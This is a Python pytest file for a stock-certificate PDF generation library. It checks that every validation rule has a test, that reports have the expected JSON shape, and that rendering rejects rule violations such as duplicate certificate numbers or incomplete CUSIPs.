def test_every_rule_is_tested() -> None:
    from test_notes import NOTE_CASES  # the note and warrant rules' cases live with those kinds
    from test_warrants import WARRANT_CASES

    tested = set(SPEC_CASES) | set(HOLDER_CASES) | set(PDF_CASES) | set(NOTE_CASES) | set(WARRANT_CASES)
    tested |= {"pdf.readable", "pdf.holder-data", "pdf.schedule"}  # tests of their own
    tested |= {"pdf.facts", "pdf.duplicate-number", "pdf.form-text"}  # test_meaning.py
    tested |= {"form.excerpt"}  # test_samples.py: test_excerpt_never_issues_certificates
    tested |= {"holder.issue-date-life"}  # test_holder_integrity.py: warrants and notes
    tested |= {
        "pdf_signature.keys"
    }  # test_pdf_signature.py: test_validate_reports_a_bad_signing_setup_as_a_rule
    assert set(RULES) == tested, f"untested: {set(RULES) - tested}; unknown: {tested - set(RULES)}"


def test_rules_have_ids_severities_and_sources() -> None:
    for rule in RULES.values():
        assert rule.id.islower() and "." in rule.id and " " not in rule.id
        assert rule.severity in ("error", "warning", "info")
        assert rule.title.endswith(".") and rule.reference


def test_report_json_shape(tmp_path: Path) -> None:
    report = _run_spec(_set("issuer.ownership_limit", 9.8), False, tmp_path)
    data = json.loads(report.to_json())
    assert {"id", "severity", "location", "message", "reference"} <= set(data[0])
    assert data[0]["id"] == "legend.ownership-limit"


def test_validate_needs_something() -> None:
    with pytest.raises(TypeError):
        validate()


def test_holder_objects_are_validated_too() -> None:
    holders = certgen.load_holders(SAMPLE_HOLDERS)
    bad = copy.replace(holders[0], registration="John Brown JT TEN") if hasattr(copy, "replace") else None
    if bad is None:
        import dataclasses

        bad = dataclasses.replace(holders[0], registration="John Brown JT TEN")
    report = validate(SAMPLE_SPEC, [bad, *holders[1:]])
    assert "registration.joint-tenancy" in report.ids()


# -- the library refuses to print what the rules reject ----------------------------------------


def test_prepare_raises_on_spec_errors(spec_data: dict) -> None:
    spec_data["issuer"]["ownership_limit"] = 9.8
    with pytest.raises(certgen.ValidationError) as info:
        certgen.prepare(spec_data)
    assert info.value.findings[0].rule == "legend.ownership-limit"
    assert str(info.value).endswith("[legend.ownership-limit]")
    certgen.prepare(spec_data, validate=False)  # a caller that validated itself may go on


def test_writing_checks_each_holder_as_it_goes() -> None:
    issue = certgen.prepare(SAMPLE_SPEC)
    holders = certgen.load_holders(SAMPLE_HOLDERS)
    import dataclasses

    twice = [holders[0], dataclasses.replace(holders[1], certificate_number=holders[0].certificate_number)]
    with pytest.raises(certgen.ValidationError) as info:
        issue.render(iter(twice))
    assert info.value.findings[0].rule == "certificate.duplicate-number"
    with pytest.raises(certgen.ValidationError):
        list(issue.render_each(twice))


def test_issued_certificates_need_the_full_cusip(spec_data: dict) -> None:
    spec_data["security"]["cusip"] = "885218"
    issue = certgen.prepare(spec_data)  # the form: a warning only
    assert issue.render()[:5] == b"%PDF-"
    with pytest.raises(certgen.ValidationError) as info:
        issue.render(certgen.load_holders(SAMPLE_HOLDERS))
    assert info.value.findings[0].rule == "cusip.issuer-only"


@pytest.mark.parametrize(
    ("path", "value", "rule"),
    [
        (
            "face.transfer_clause",
            "transferable on the books of the Corporation upon surrender of this Certificate properly endorsed. "
            "This Certificate is not valid unless countersigned by a Transfer Agent and registered by a Registrar.",
            "countersignature.validity",
        ),
        (
            "face.shares_clause",
            "FULLY-PAID AND NON-ASSESSABLE SHARES OF THE SERIES B CUMULATIVE PREFERRED STOCK",
            "face.fully-paid",
        ),
    ],
    ids=["unless countersigned", "FULLY-PAID"],
)
def test_equivalent_wordings_of_filed_forms_pass(path: str, value: str, rule: str, tmp_path: Path) -> None:
    """'not valid unless countersigned' says what 'until' says, and 'FULLY-PAID' what 'FULLY
    PAID' does: filed forms use both (Active Power, the auction rate fund)."""
    report = _run_spec(_set(path, value), False, tmp_path)
    assert rule not in {f.rule for f in report}, [str(f) for f in report]
